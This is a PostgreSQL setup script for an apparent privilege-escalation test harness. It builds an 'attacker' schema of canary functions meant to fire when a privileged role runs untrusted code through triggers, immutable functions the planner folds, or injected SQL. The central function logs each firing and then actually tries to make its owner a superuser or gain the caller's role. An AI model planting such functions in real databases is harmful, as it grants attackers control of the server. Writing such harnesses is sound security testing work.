-- The attacker's canaries (run as the attacker, in its own schema).
--
-- attacker.canary(tag) does nothing when it runs as its owner.  Run as any
-- other role it (1) sends WARNING "CANARY-FIRED tag=<family:what> as=<role>
-- step=<step>" (seen even when the statement then fails and rolls back),
-- (2) logs the firing in attacker.canary_log, (3) tries to make its owner a
-- superuser (when it runs as one) or a member of the role it runs as.
-- Tags are "family:what"; the runner groups firings by family.
-- Every function here pins its own search_path: the attacker's search_path
-- puts its shadows of pg_catalog names first (search_path.sql).

CREATE SCHEMA attacker;
GRANT USAGE ON SCHEMA attacker TO PUBLIC;

CREATE TABLE attacker.canary_log (
	fired_as name NOT NULL,
	tag text NOT NULL,
	step text NOT NULL,
	at timestamptz NOT NULL DEFAULT pg_catalog.clock_timestamp()
);
GRANT INSERT, SELECT ON attacker.canary_log TO PUBLIC;

CREATE FUNCTION attacker.canary(tag text) RETURNS boolean
LANGUAGE plpgsql VOLATILE
SET search_path = pg_catalog, pg_temp
AS $$
DECLARE
	me name := pg_get_userbyid((SELECT p.proowner FROM pg_proc p
	                             WHERE p.oid = 'attacker.canary(text)'::regprocedure));
	step text := coalesce(current_setting('attack.step', true), '?');
BEGIN
	IF current_user = me THEN
		RETURN true;
	END IF;
	RAISE WARNING 'CANARY-FIRED tag=% as=% step=%', tag, current_user, step;
	BEGIN
		INSERT INTO attacker.canary_log (fired_as, tag, step) VALUES (current_user, tag, step);
	EXCEPTION WHEN OTHERS THEN
		RAISE WARNING 'CANARY-LOG-FAILED tag=% as=%: %', tag, current_user, SQLERRM;
	END;
	IF (SELECT r.rolsuper FROM pg_roles r WHERE r.rolname = current_user) THEN
		BEGIN
			EXECUTE format('ALTER ROLE %I SUPERUSER', me);
			RAISE WARNING 'CANARY-ESCALATED tag=% as=%', tag, current_user;
		EXCEPTION WHEN OTHERS THEN
			RAISE WARNING 'CANARY-ESCALATION-FAILED tag=% as=%: %', tag, current_user, SQLERRM;
		END;
	ELSE
		BEGIN
			EXECUTE format('GRANT %I TO %I', current_user, me);
			RAISE WARNING 'CANARY-ESCALATED tag=% as=% (membership)', tag, current_user;
		EXCEPTION WHEN OTHERS THEN
			NULL;
		END;
	END IF;
	RETURN true;
END
$$;

-- Wrappers for every context.
CREATE FUNCTION attacker.canary_bigint(tag text) RETURNS bigint
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp
AS $$ BEGIN PERFORM attacker.canary(tag); RETURN 1; END $$;

-- IMMUTABLE: what the planner folds (index predicates and expressions,
-- statistics, constraints).  It calls the volatile logger.
CREATE FUNCTION attacker.imm(tag text) RETURNS boolean
LANGUAGE plpgsql IMMUTABLE SET search_path = pg_catalog, pg_temp
AS $$ BEGIN RETURN attacker.canary(tag); END $$;

CREATE FUNCTION attacker.imm_int(tag text) RETURNS integer
LANGUAGE plpgsql IMMUTABLE SET search_path = pg_catalog, pg_temp
AS $$ BEGIN PERFORM attacker.canary(tag); RETURN 0; END $$;

-- IMMUTABLE and loud: logs, then fails the statement.
CREATE FUNCTION attacker.imm_loud(tag text) RETURNS boolean
LANGUAGE plpgsql IMMUTABLE SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
	PERFORM attacker.canary(tag);
	IF current_user <> pg_get_userbyid((SELECT p.proowner FROM pg_proc p
	                                     WHERE p.oid = 'attacker.canary(text)'::regprocedure)) THEN
		RAISE EXCEPTION 'CANARY-FIRED tag=% as=% step=% (raised)', tag, current_user,
			coalesce(current_setting('attack.step', true), '?');
	END IF;
	RETURN true;
END
$$;

-- Trigger function: tag in TG_ARGV[0].
CREATE FUNCTION attacker.canary_trigger() RETURNS trigger
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
	PERFORM attacker.canary(TG_ARGV[0]);
	IF TG_LEVEL = 'STATEMENT' THEN
		RETURN NULL;
	END IF;
	IF TG_OP = 'DELETE' THEN
		RETURN OLD;
	END IF;
	RETURN NEW;
END
$$;

-- Short, for injected SQL text (identifiers are at most 63 bytes).
CREATE FUNCTION attacker.c(n integer) RETURNS boolean
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp
AS $$ BEGIN RETURN attacker.canary('injection:payload_' || n); END $$;
